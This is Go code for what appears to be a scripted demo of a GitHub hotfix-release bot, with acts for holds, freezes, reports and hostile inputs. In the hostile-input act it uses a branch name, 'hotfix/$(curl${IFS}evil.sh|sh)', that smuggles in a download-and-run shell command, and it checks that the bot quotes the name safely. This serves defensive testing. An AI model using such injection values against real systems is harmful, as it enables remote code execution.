	if _, err := r.MergePR(in.Rob, sync.Number); err != nil {
		return err
	}
	d.say("rob", "merges #%d into release/1.5 with a merge commit", sync.Number)
	if err := d.settle(); err != nil {
		return err
	}
	d.expect(d.showCheck(r.Branch("release/1.5"), policy.CheckRelease) == policy.Success, "hotfix-bot/release on release/1.5: it contains every hotfix production shipped")
	run, err = deploy()
	if err != nil {
		return err
	}
	d.expect(len(run.Reviews) == 1 && run.Reviews[0].State == "approved" && run.Status == "in_progress",
		"deploying release/1.5 again is approved: nothing production has is lost")
	return nil
}

// holdAndFreezeAct: a third hotfix, approved, is held by the DBA (the
// approval check shows it, /promote is refused naming her), released by
// her; then a Thanksgiving freeze in the policy refuses /promote with
// the window and the way past.
func (d *demoRun) holdAndFreezeAct() error {
	r, in := d.in.Repo, d.in
	fmt.Fprintln(d.out, "\n— A hold, and a freeze —")
	if _, err := r.CreateBranch(in.Dana, "hotfix/receipt-email", "v1.4.5"); err != nil {
		return err
	}
	head, err := r.Push(in.Dana, "hotfix/receipt-email", "Send the receipt email once", ghsim.Files{"payments/receipt.go": "package payments\n\nconst ReceiptEmails = 1\n"})
	if err != nil {
		return err
	}
	n, err := r.OpenPR(in.Dana, "hotfix/receipt-email", "main", "Send the receipt email once")
	if err != nil {
		return err
	}
	if err := d.settle(); err != nil {
		return err
	}
	if err := r.AddLabel(in.Rob, n, "hotfix-approved"); err != nil {
		return err
	}
	d.say("dana", "pushes hotfix/receipt-email (%s) and opens #%d; rob approves", policy.Short(head), n)
	if err := d.settle(); err != nil {
		return err
	}
	_, replies, err := d.comment(in.Dora, n, "/hold the receipts table migration runs tonight")
	if err != nil {
		return err
	}
	d.expect(len(replies) == 1 && strings.Contains(replies[0].Body, "is on hold: the receipts table migration runs tonight") &&
		strings.Contains(strings.Join(r.Labels(n), ","), policy.LabelHold), "dora's /hold is recorded, and the pull request labelled "+policy.LabelHold)
	d.expect(d.showCheck(head, policy.CheckApproval) == policy.Failure, "the approval check shows the hold")
	_, replies, err = d.comment(in.Rob, n, "/promote")
	if err != nil {
		return err
	}
	d.expect(len(replies) == 1 && strings.Contains(replies[0].Body, "refused: not on hold") && strings.Contains(replies[0].Body, "On hold by @dora"),
		"rob's /promote is refused, naming who held it and why")
	_, replies, err = d.comment(in.Dora, n, "/hold cancel")
	if err != nil {
		return err
	}
	d.expect(len(replies) == 1 && strings.Contains(replies[0].Body, "is lifted") && d.showCheck(head, policy.CheckApproval) == policy.Success,
		"dora lifts her hold; the approval check is green again")

	if _, err := r.Push(in.Rob, "main", "Freeze production over Thanksgiving", ghsim.Files{".github/hotfix-bot.yml": "freeze:\n" +
		"  - {from: 2026-11-20, to: 2026-11-30, zone: America/New_York, reason: \"Thanksgiving week: production changes only in an emergency\"}\n"}); err != nil {
		return err
	}
	d.say("rob", "adds a Thanksgiving freeze to .github/hotfix-bot.yml")
	if err := d.settle(); err != nil {
		return err
	}
	before := len(d.botDeployments())
	_, replies, err = d.comment(in.Rob, n, "/promote")
	if err != nil {
		return err
	}
	d.expect(len(replies) == 1 && strings.Contains(replies[0].Body, "refused: not frozen") && strings.Contains(replies[0].Body, "Thanksgiving week") &&
		strings.Contains(replies[0].Body, "it opens again Mon 2026-11-30 00:00 EST") && strings.Contains(replies[0].Body, "/promote --emergency REASON") &&
		len(d.botDeployments()) == before, "during the freeze /promote is refused with the window, its reason, when it ends and the way past")
	return nil
}

// reportAct: the report of the night, as the signed page and `hotfix-bot
// report` show it, read from GitHub alone.
func (d *demoRun) reportAct() error {
	fmt.Fprintln(d.out, "\n— The report —")
	bot := d.h.Bots[0]
	rep, err := handlers.NewBot(bot.Deps()).Report(d.ctx, "acme", "payments", handlers.DefaultReportWindow)
	if err != nil {
		return err
	}
	if err := rep.WriteText(d.out); err != nil {
		return err
	}
	o := rep.Overall
	d.expect(o.Hotfixes == 3 && o.CFR() == "33% (2 of 6)" && o.Recovery.N == 2 && o.Incidents == 1,
		"the report counts v1.4.3, v1.4.4 and v1.4.5 shipped, two failed deployments in six (#4's, and release/1.5's that GitHub marked failed when the bot rejected it; the late failure an hour later counts for nothing), their recoveries and the incident")
	d.expect(len(rep.Hotfixes) > 0 && len(rep.Hotfixes[0].Pending()) == 2 && rep.Complete(),
		"v1.4.5, not yet merged into develop and release/1.5, is listed first; every listing was read whole")
	link := handlers.ReportLink(d.h.Config(), "acme", "payments", d.h.Sim.Clock().Now())
	req, err := http.NewRequestWithContext(d.ctx, http.MethodGet, link, nil)
	if err != nil {
		return err
	}
	resp, err := http.DefaultClient.Do(req)
	if err != nil {
		return err
	}
	defer resp.Body.Close()
	page, err := io.ReadAll(resp.Body)
	if err != nil {
		return err
	}
	d.say("hotfix-bot", "serves the report page (%d, %d bytes): %s", resp.StatusCode, len(page), link)
	d.expect(resp.StatusCode == http.StatusOK && strings.Contains(string(page), `<svg class="timeline"`) && strings.Contains(string(page), o.CFR()),
		"the signed report page draws the same numbers, as SVG")
	return nil
}

func (d *demoRun) verdict() int {
	fmt.Fprintln(d.out)
	calls := d.h.Sim.Calls()
	charged, conditional := 0, 0
	for _, c := range calls {
		if c.Charged {
			charged++
		}
		if c.Conditional {
			conditional++
		}
	}
	fmt.Fprintf(d.out, "GitHub API: %d calls by the bot (%d counted against the rate limit, %d answered 304 Not Modified for free), %d webhook deliveries.\n",
		len(calls), charged, conditional, len(d.h.Sim.Deliveries()))
	if v := d.h.Violations(); len(v) > 0 {
		for _, line := range v {
			d.failed = append(d.failed, "GitHub would reject: "+line)
		}
	}
	if n, err := d.h.HandlerErrors(); err != nil || n > 0 {
		d.failed = append(d.failed, fmt.Sprintf("%d handler runs failed", n))
	}
	if len(d.failed) > 0 {
		fmt.Fprintf(d.out, "\nDEMO FAILED: %d expected outcome(s) did not happen:\n", len(d.failed))
		for _, f := range d.failed {
			fmt.Fprintf(d.out, "  - %s\n", f)
		}
		return 1
	}
	fmt.Fprintln(d.out, "Every expected outcome happened.")
	return 0
}

// hostileAct: what people with write access, or none, choose cannot be
// turned against the team: a branch name that would run a command, a
// title that mentions a team, a sync branch prepared under the bot's
// name, a flood of dry runs.
func (d *demoRun) hostileAct() error {
	r, in := d.in.Repo, d.in
	fmt.Fprintln(d.out, "\n— Names, mentions and branches someone else chose —")
	evil := "hotfix/$(curl${IFS}evil.sh|sh)"
	if _, err := r.CreateBranch(in.Dana, evil, "develop"); err != nil {
		return err
	}
	bad, err := r.Push(in.Dana, evil, "Fix", ghsim.Files{"payments/fix.go": "package payments\n"})
	if err != nil {
		return err
	}
	d.say("dana", "pushes a branch named %s, cut from develop", evil)
	if err := d.settle(); err != nil {
		return err
	}
	cr, _ := r.CheckRun(bad, policy.CheckBase)
	d.expect(strings.Contains(cr.Summary, "git rebase --onto v1.4.3 ") && strings.Contains(cr.Summary, " '"+evil+"'\n"),
		"hotfix-bot/base quotes the branch name in the command it prints: pasted, it runs nothing")

	mallory := d.h.Sim.User("mallory")
	r.SetRole("mallory", "write")
	prepared := "hotfix-bot/sync/v1.4.4-to-develop"
	if _, err := r.CreateBranch(mallory, prepared, "develop"); err != nil {
		return err
	}
	if _, err := r.Push(mallory, prepared, "Sync v1.4.4 into develop", ghsim.Files{"payments/backdoor.go": "package payments\n"}); err != nil {
		return err
	}
	d.say("mallory", "reads the next tag in a plan and prepares %s with a commit of hers", prepared)

	if _, err := r.CreateBranch(in.Dana, "hotfix/receipts", "v1.4.3"); err != nil {
		return err
	}
	head, err := r.Push(in.Dana, "hotfix/receipts", "Send receipts again", ghsim.Files{"payments/receipt.go": "package payments\n"})
	if err != nil {
		return err
	}
	n, err := r.OpenPR(in.Dana, "hotfix/receipts", "main", "Send receipts again (cc @acme/everyone)")
	if err != nil {
		return err
	}
	if err := d.settle(); err != nil {
		return err
	}
	if err := r.AddLabel(in.Rob, n, "hotfix-approved"); err != nil {
		return err
	}
	d.say("dana", "opens #%d %q; rob approves it", n, "Send receipts again (cc @acme/everyone)")
	if err := d.settle(); err != nil {
		return err
	}
	if _, _, err := d.comment(in.Ivan, n, "/promote --dry-run"); err != nil {
		return err
	}
	mark := len(d.h.Sim.Calls())
	_, replies, err := d.comment(in.Ivan, n, "/promote --dry-run")
	if err != nil {
		return err
	}
	d.expect(len(replies) == 1 && strings.Contains(replies[0].Body, "One dry run per person per minute") && len(d.h.Sim.Calls())-mark <= 3,
		"ivan's second dry run within a minute gets one short answer and costs no gate reads")

	if _, _, err := d.comment(in.Rob, n, "/promote"); err != nil {
		return err
	}
	deps := d.botDeployments()
	if err := d.report(deps[len(deps)-1].ID, "success"); err != nil {
		return err
	}
	var summary string
	for _, c := range r.Comments(n) {
		if c.User.Type == "Bot" && strings.Contains(c.Body, "hotfix-bot:deployed:") {
			summary = c.Body
			d.showComment(c.Body, 16)
		}
	}
	ours := false
	for _, is := range d.pullsInto("develop") {
		if is.PR.HeadRef == prepared+"-2" && is.User.Type == "Bot" {
			ours = len(r.Diff(head, is.PR.HeadSHA)) == 0
		}
	}
	d.expect(ours && strings.Contains(summary, "left alone, not the bot's"),
		"mallory's branch is left alone and reported; the sync into develop comes from …-2, with exactly the release")
	mentioned := false
	for _, c := range r.Comments(n) {
		for _, m := range ghsim.Mentions(c.Body) {
			mentioned = mentioned || (c.User.Type == "Bot" && m == "acme/everyone")
		}
	}
	d.expect(!mentioned, "nothing the bot wrote mentions @acme/everyone, though the title does")
	return nil
}
